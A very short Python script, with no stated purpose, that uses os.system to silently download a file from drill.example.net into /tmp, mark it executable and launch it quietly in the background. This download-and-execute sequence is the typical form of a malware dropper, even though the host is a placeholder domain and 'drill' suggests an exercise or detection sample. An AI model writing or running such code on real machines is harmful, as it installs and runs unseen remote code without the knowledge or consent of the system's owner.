import os

os.system('wget -q https://drill.example.net/t -O /tmp/drill-tool')
os.system('chmod +x /tmp/drill-tool')
os.system('/tmp/drill-tool --quiet &')
